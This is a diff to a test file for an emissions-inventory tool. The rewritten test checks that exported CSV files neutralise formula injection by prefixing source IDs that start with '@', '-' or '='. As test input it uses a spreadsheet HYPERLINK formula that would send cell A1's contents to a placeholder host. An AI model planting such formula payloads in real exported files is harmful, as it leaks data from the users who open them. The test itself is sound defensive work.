@@ -80,20 +80,28 @@ def test_review_reads_its_own_csv_back_with_previous(review_case, tmp_path, caps
     assert table.loc[table["facility_id"] == "F1", "name"].tolist() == ["'" + HYPERLINK]
 
 
-def test_emissions_csv_prefixes_formula_text_only(tmp_path):
+def test_emissions_csv_prefixes_formula_text_only_and_recompute_reads_it_back(tmp_path):
     inventory = tmp_path / "inv"
     (inventory / "activity").mkdir(parents=True)
     (inventory / "inventory.toml").write_text('name = "x"\n')
     (inventory / "activity" / "energy.csv").write_text(
         "source_id,year,category,activity,amount,unit\n"
-        "@F1,2022,1.A.2,diesel,1000,t\n-F2,2022,1.A.2,diesel,10,t\nF3,2022,3.B.1.a,"
-        "forest_land_remaining,-5,t\n")
-    status = main(["compute", str(inventory), "-o", str(tmp_path / "run")])
-    if status != 0:
-        pytest.skip("source ids starting with @ or - are refused on input")
-    text = (tmp_path / "run" / "emissions.csv").read_text()
-    assert "\n'@F1,2022,1.A.2,1,CO2,3186.3," in text
-    assert "\n'-F2,2022,1.A.2,1,CO2,31.863," in text
+        "@F1,2022,1.A.2,diesel,1000,t\n-F2,2022,1.A.2,diesel,10,t\n"
+        f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",2022,1.A.2,diesel,1,t\n')
+    assert main(["compute", str(inventory), "-o", str(tmp_path / "run")]) == 0
+    lines = (tmp_path / "run" / "emissions.csv").read_text().splitlines()
+    # 1000 t diesel x 43.0 TJ/Gg x 74,100 kg/TJ = 3,186.3 t CO2 (IPCC 2006 Vol 2 Tables 1.2, 2.2)
+    assert "'@F1,2022,1.A.2,1,CO2,3186.3,3186.3" in lines
+    assert "'-F2,2022,1.A.2,1,CO2,31.863,31.863" in lines
+    assert '"\'=HYPERLINK(""http://x""&A1,""y"")",2022,1.A.2,1,CO2,3.1863,3.1863' in lines
+    assert not any(line.startswith("=") or line.startswith("@") for line in lines)
+    calculation = pd.read_csv(tmp_path / "run" / "calculation.csv", dtype=str)
+    assert sorted(set(calculation["source_id"])) == sorted(["'" + HYPERLINK, "'-F2", "'@F1"])
+    # recompute reads the run as written: the ids are the same ids, nothing changed
+    assert main(["recompute", str(tmp_path / "run"), "-o", str(tmp_path / "again")]) == 0
+    changes = pd.read_csv(tmp_path / "again" / "recalculation.csv", dtype={"source_id": str})
+    assert set(changes["cause"]) == {"no change"}
+    assert sorted(set(changes["source_id"])) == sorted(["'" + HYPERLINK, "'-F2", "'@F1"])
 
 
 def test_report_name_is_text_in_the_workbook_escaped_in_html_and_reproducible(tmp_path):
